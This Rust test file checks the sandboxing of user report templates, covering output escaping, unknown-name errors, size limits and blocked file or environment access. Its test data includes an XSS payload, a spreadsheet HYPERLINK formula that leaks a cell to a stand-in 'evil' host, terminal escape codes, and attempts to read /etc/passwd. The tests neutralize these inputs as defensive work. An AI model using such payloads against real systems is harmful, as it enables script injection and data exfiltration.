//! Users' templates: what they see, what they may not, and where their errors are.

use super::*;
use crate::playbook::ReportFormat;
use crate::report::tests::Fixture;

/// All that a template sees.
fn as_json(source: &Source<'_>) -> Value {
    let context = context(source).expect("it adds up");
    let entry = |name: &str| {
        let value = context.get(name).expect("every top name is there");
        (name.to_owned(), serde_json::to_value(value).expect("it is JSON"))
    };
    Value::Object(fields::TOP.into_iter().map(entry).collect())
}

/// Renders a template of that file name over the run in which everything happens; errors without their folder.
fn render_as(name: &str, text: &str) -> Result<String, String> {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join(name);
    fs::write(&path, text).expect("it can be written");
    let shown = format!("{}/", folder.path().display());
    let rendered = Fixture::everything().render(&ReportFormat::Template(path));
    rendered.map_err(|error| error.to_string().replace(&shown, ""))
}

#[track_caller]
fn gives(text: &str, expected: &str) {
    assert_eq!(render_as("t.txt", text), Ok(expected.to_owned()));
}

#[track_caller]
fn fails(text: &str, expected: &str) {
    assert_eq!(render_as("t.txt", text), Err(expected.to_owned()));
}

#[test]
fn the_view_has_the_names_of_the_json_report() {
    let json = Fixture::everything().render(&ReportFormat::Json).expect("it adds up");
    let mut json: Value = serde_json::from_str(&json).expect("it is JSON");
    make_inert(&mut json);
    let context = Fixture::everything().with(as_json);
    for part in ["run", "summary", "rows_without_item"] {
        assert_eq!(context[part], json[part], "{part}");
    }
    let (ours, theirs) = (context["items"].as_array(), json["items"].as_array());
    for (ours, theirs) in ours.expect("a list").iter().zip(theirs.expect("a list")) {
        let names = |value: &Value| value.as_object().expect("an item").keys().cloned().collect::<Vec<_>>();
        assert_eq!(names(ours), names(theirs));
        let without_big_number = |value: &Value| {
            let mut value = value.clone();
            value["attributes"]["score"] = Value::Null;
            value
        };
        assert_eq!(without_big_number(ours), without_big_number(theirs));
    }
    assert_eq!(context["items"][6]["attributes"]["score"], "12345678901234567890123");
    for (known, value) in [
        (fields::RUN, &context["run"]),
        (fields::SUMMARY, &context["summary"]),
        (fields::OUTCOMES, &context["summary"]["outcomes"]),
        (fields::CALLS, &context["summary"]["calls"]),
        (fields::ITEM, &context["items"][0]),
        (fields::ROW, &context["rows_without_item"][0]),
    ] {
        assert_eq!(value.as_object().expect("a map").keys().collect::<Vec<_>>(), known);
    }
}

#[test]
fn texts_are_inert_where_they_land() {
    let host = "{% for item in items %}{% if item.item == 4 %}{{ item.attributes.host }}{% endif %}{% endfor %}";
    for name in ["t.html", "t.htm", "t.xml", "t.svg", "t.html.tera", "t.svg.tera"] {
        let expected = "&lt;script&gt;alert(1)&lt;/script&gt;";
        assert_eq!(render_as(name, host), Ok(expected.to_owned()), "{name}");
    }
    assert_eq!(render_as("t.txt", host), Ok("<script>alert(1)</script>".to_owned()));
    gives("{{ items[5].attributes.host }}", "{{ run.id }}{% raw %}");
    gives("{{ items[7].attributes.host }}", "�[2J�gpj.exe");
    gives("{{ items[7].attributes.host | markdown }}", "`�[2J�gpj.exe`");
    gives("{{ items[2].attributes.host | csv_cell }}", "'=HYPERLINK(\"http://evil/\"&A1,\"x\")");
    gives("{{ items[8].attributes.host | one_line }}", "two lines, \"quoted\"");
}

#[test]
fn attributes_keep_the_order_of_the_columns() {
    gives("{% for name, value in items[5].attributes %}{{ name }};{% endfor %}", "host;input.outcome;");
}

#[test]
fn a_template_reaches_nothing_but_the_report() {
    fails("{{ get_env(name='HOME') }}", "t.txt:1:4: unknown function `get_env`");
    fails("\n {{ now() }}", "t.txt:2:5: unknown function `now`");
    fails("{{ get_random(start=0, end=9) }}", "t.txt:1:4: unknown function `get_random`");
    fails("{{ load_data(path='/etc/passwd') }}", "t.txt:1:4: unknown function `load_data`");
    fails("{% include '/etc/passwd' %}", "t.txt:1:12: unknown template `/etc/passwd`");
    let parent = render_as("t.txt", "{% extends 'x' %}").expect_err("there is no other file");
    assert!(parent.contains("inheriting from 'x'"), "{parent}");
}

#[test]
fn unknown_names_are_errors_even_where_tera_would_take_them_for_false() {
    fails("{% if rn %}x{% endif %}", "t.txt:1:7: the report has no `rn`, did you mean `run`?");
    fails("a\n{{ tenant }}", "t.txt:2:4: the report has no `tenant`");
    fails(
        "{% for item in items %}\n{% if item.statu %}x{% endif %}{% endfor %}",
        "t.txt:2:12: the report has no `statu`, did you mean `status`?",
    );
    fails(
        "{{ items[0].attributes.nope }}",
        "t.txt:1:24: there is no such value here; use `| default(value=\"\")` where it may be missing",
    );
    gives("{% set mine = run %}{{ mine.id }}", "contain-0612-7f3");
    gives("{{ items[0].attributes.nope | default(value=\"-\") }}", "-");
}

#[test]
fn errors_have_their_place_and_are_inert() {
    fails("a\nb {{ run.id", "t.txt:2:12: unexpected end of input");
    fails("{{ run.id | uper }}", "t.txt:1:13: unknown filter `uper`");
    fails("{{ run.id * 2 }}", "t.txt:1:4: math operations can only be done on numbers, found `string`");
    let thrown = render_as("t.txt", "{{ throw(message=\"\u{1b}[31m\" ~ run.id) }}");
    assert_eq!(thrown, Err("t.txt:1:4: �[31mcontain-0612-7f3".to_owned()));
}

#[test]
fn output_and_template_have_limits() {
    let long = "0123456789abcdef".repeat(50);
    let large = format!("{{% for x in range(end=100000) %}}{long}{{% endfor %}}");
    fails(&large, "t.txt: it renders more than 64 MiB; show fewer items or fields");
    let endless = "{% for x in range(end=100000) %}{% for y in range(end=100000) %}{% endfor %}{% endfor %}";
    fails(endless, "t.txt:1:45: all calls of `range` together give more than 1000000 numbers");
    fails(
        "{{ range(start=-9, end=9223372036854775807) }}",
        "t.txt:1:4: all calls of `range` together give more than 1000000 numbers",
    );
    fails("{{ range(end=3, step_by=0) }}", "t.txt:1:4: `step_by` of `range` must be at least 1");
    gives("{{ range(start=1, end=9, step_by=3) }}{{ range(end=-1) }}", "[1, 4, 7][]");
    let large = " ".repeat(TEMPLATE_BYTES_MAX as usize + 1);
    fails(&large, "cannot read the template t.txt: it is larger than 1 MiB");
    let missing = Fixture::everything().render(&ReportFormat::Template("no/such.tera".into()));
    let missing = missing.expect_err("there is no such file").to_string();
    assert!(missing.starts_with("cannot read the template no/such.tera: "), "{missing}");
}

#[test]
fn others_are_limited_and_those_that_need_a_person_are_not() {
    let mut fixture = Fixture::many(10_050, crate::engine::Outcome::Succeeded, "x");
    for ending in &mut fixture.folded.endings[10_010..10_030] {
        ending.outcome = crate::engine::Outcome::Unknown;
    }
    fixture.recount();
    let context = fixture.with(as_json);
    let items = context["items"].as_array().expect("a list");
    assert_eq!((items.len(), &context["items_left_out"]), (10_020, &Value::from(30)));
    let order: Vec<u64> = items.iter().filter_map(|item| item["item"].as_u64()).collect();
    assert!(order.is_sorted() && order.ends_with(&[10_028, 10_029]), "in item order");
}
